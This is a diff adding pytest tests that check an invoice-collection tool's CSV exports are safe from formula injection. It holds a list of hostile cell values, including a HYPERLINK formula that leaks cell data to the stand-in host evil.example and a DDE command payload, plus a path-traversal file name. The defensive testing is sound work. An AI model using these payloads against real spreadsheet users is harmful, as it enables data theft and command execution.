@@ -162,3 +162,68 @@ def test_package_is_deterministic_and_guards_proof_names() -> None:
     names = zipfile.ZipFile(io.BytesIO(
         agency_package(CUSTOMER, ctx["invoices"], [], {"..\\..\\evil.eml": b"x"}, AS_OF))).namelist()
     assert "preuves/evil.eml" in names
+
+
+# --------------------------------------------------------------------------- no formula in a CSV
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")', "@SUM(1+1)", "+1+1", "-1+1",
+           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def hostile_package() -> zipfile.ZipFile:
+    items = [invoice(iid, dt.date(2026, 9, 1), dt.date(2026, 12, 1), "100.00", "100.00", "-12.50")
+             for iid in HOSTILE]  # not yet due: -8 days past due; a negative penalty, for the figure
+    rows = [history(action_key=f"h{i}", recipient=text, step=text, message_id=text, invoice_ids=[text])
+            for i, text in enumerate(HOSTILE)]
+    data = agency_package(CUSTOMER, items, rows, {}, AS_OF, "fr", company=COMPANY)
+    return zipfile.ZipFile(io.BytesIO(data))
+
+
+def test_no_csv_cell_starts_like_a_formula_and_figures_stay_numbers() -> None:
+    archive = hostile_package()
+    dossier = read_csv(archive, "dossier.csv")
+    assert sorted(row[0] for row in dossier[1:]) == sorted("'" + text for text in HOSTILE)
+    assert {(row[6], row[7]) for row in dossier[1:]} == {("-8", "-12,50")}  # numbers, minus sign kept
+    relances = read_csv(archive, "relances.csv")
+    for row in relances[1:]:
+        assert row[3].startswith("'") and row[4].startswith("'") and row[6].startswith("'") and row[7].startswith("'")
+    for name in ("dossier.csv", "relances.csv"):
+        for row in read_csv(archive, name):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (
+                    cell.startswith("-") and not cell[1:].replace(",", "").isdigit()), (name, cell)
+
+
+@pytest.mark.slow
+def test_libreoffice_reads_the_hostile_cells_as_text(tmp_path) -> None:
+    import shutil
+    import subprocess
+
+    import openpyxl
+
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    if soffice is None:
+        pytest.skip("LibreOffice is not installed (make test installs it)")
+    archive = hostile_package()
+    for name in ("dossier.csv", "relances.csv"):
+        (tmp_path / name).write_bytes(archive.read(name))
+    # ';' separated, '"' quoted, UTF-8, from line 1, French, *evaluate formulas*: the worst case
+    # (without the quote, LibreOffice makes =HYPERLINK(…) and =cmd|… formulas)
+    options = "CSV:59,34,76,1,,1036,false,false,false,false,false,-1,true"
+    done = subprocess.run(
+        [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
+         f"--infilter={options}", "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"),
+         str(tmp_path / "dossier.csv"), str(tmp_path / "relances.csv")],
+        capture_output=True, text=True, timeout=240,
+    )
+    assert done.returncode == 0, done.stderr
+    dossier = openpyxl.load_workbook(tmp_path / "out" / "dossier.xlsx").active
+    cells = [c for row in dossier.iter_rows() for c in row if c.value is not None]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    ids = sorted(row[0].value for row in dossier.iter_rows(min_row=2))
+    assert ids == sorted("'" + text.replace("\r", "\n") for text in HOSTILE)  # text, quote shown (CR read as LF)
+    figures = [(row[6].value, row[7].value) for row in dossier.iter_rows(min_row=2)]
+    assert set(figures) == {(-8, -12.5)}  # numbers, not text
+    relances = openpyxl.load_workbook(tmp_path / "out" / "relances.xlsx").active
+    assert not [c.coordinate for row in relances.iter_rows() for c in row if c.data_type == "f"]
+    assert all(str(row[4].value).startswith("'") for row in relances.iter_rows(min_row=2))
